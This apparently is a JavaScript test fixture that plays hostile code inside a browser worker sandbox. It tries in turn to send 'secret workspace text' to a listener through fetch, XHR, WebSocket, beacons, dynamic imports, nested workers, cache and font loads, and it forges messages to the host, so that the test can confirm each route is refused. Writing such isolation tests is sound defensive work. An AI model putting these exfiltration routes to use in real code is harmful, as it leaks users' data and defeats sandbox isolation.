// A stand-in for the sandbox's code with an attacker's full reach: it holds the worker's own global
// object and tries every way out (isolation.browser.test.ts sends it through the real sandbox host
// and boot script in place of the sandbox bundle; the extensions' isolation test runs the same
// attempts from an extension's handler). Plain JavaScript, imported with ?raw.
export function start(port) {
  port.onmessage = async ({ data: { listener, channel } }) => {
    const tried = await tryEverything({ listener, channel });
    port.postMessage({ origin: self.origin, tried });
  };
  port.postMessage({ type: 'ready' });
}

/** Every way out of the worker, each as `refused: <error>` or `ALLOWED: <what came back>`. */
export async function tryEverything({ listener, channel }) {
  const tried = {};
  const attempt = async (name, action) => {
    try {
      const value = await Promise.race([
        action(),
        new Promise((resolve) => setTimeout(() => resolve('(no answer in 3 s)'), 3000)),
      ]);
      tried[name] = `ALLOWED: ${String(value).slice(0, 120)}`;
    } catch (e) {
      tried[name] = `refused: ${e && e.name}`;
    }
  };
  const event = (target, ok, fail) =>
    new Promise((resolve, reject) => {
      target.addEventListener(ok, () => resolve(ok));
      target.addEventListener(fail, () => reject(new Error(fail)));
    });
  const url = (path) => `${listener}/${path}?data=${encodeURIComponent('secret workspace text')}`;

  await attempt('fetch', () => fetch(url('fetch')).then((r) => r.status));
  await attempt('fetch no-cors', () => fetch(url('no-cors'), { mode: 'no-cors' }).then((r) => r.type));
  await attempt('XMLHttpRequest', () => {
    const xhr = new XMLHttpRequest();
    xhr.open('GET', url('xhr'));
    xhr.send();
    return event(xhr, 'load', 'error');
  });
  await attempt('WebSocket', () => event(new WebSocket(url('ws').replace('http', 'ws')), 'open', 'error'));
  await attempt('EventSource', () => event(new EventSource(url('sse')), 'open', 'error'));
  await attempt('WebTransport', () => new WebTransport(url('wt').replace('http:', 'https:')).ready);
  await attempt('import() of a script', () => import(url('script.js')));
  await attempt('import() of a JSON module', () => import(url('module.json'), { with: { type: 'json' } }));
  await attempt('importScripts', () => importScripts(url('classic.js')));
  await attempt('new Worker from a URL', () => event(new Worker(url('worker.js')), 'message', 'error'));
  await attempt('a nested data: worker fetching', () => {
    const source = `fetch(${JSON.stringify(url('nested'))}).then(() => postMessage('sent'), (e) => postMessage('refused ' + e.name))`;
    const nested = new Worker(`data:text/javascript,${encodeURIComponent(source)}`);
    return new Promise((resolve, reject) =>
      nested.addEventListener('message', ({ data }) =>
        data === 'sent' ? resolve(data) : reject(new Error(data)),
      ),
    );
  });
  await attempt('caches', () => caches.open('x').then((c) => c.add(url('cache'))));
  await attempt('storage buckets', () =>
    navigator.storageBuckets.open('b').then((b) => b.caches.open('c').then((c) => c.add(url('bucket')))),
  );
  await attempt('navigator.sendBeacon', () => navigator.sendBeacon(url('beacon'), 'x'));
  await attempt('indexedDB', () => event(indexedDB.open('hearth'), 'success', 'error'));
  await attempt('OPFS', () => navigator.storage.getDirectory().then((d) => d.kind));
  await attempt('Web Locks', () => navigator.locks.request('hearth', () => 'held'));
  await attempt('FontFace', () => new FontFace('x', `url(${url('font')})`).load());
  await attempt('eval', () => (0, eval)('1 + 1'));
  await attempt('Function constructor', () => Function('return 1')());

  // Channels to the app: the page listens on these and must hear nothing.
  for (const name of ['hearth-runs', channel]) new BroadcastChannel(name).postMessage({ forged: true });
  // The worker's parent is the sandbox host: a forged request to start or end workers.
  self.postMessage({ type: 'spawn', id: 1, name: 'x', source: 'fetch("/")' });
  self.postMessage({ type: 'exit', id: 1, message: 'forged' });
  return tried;
}
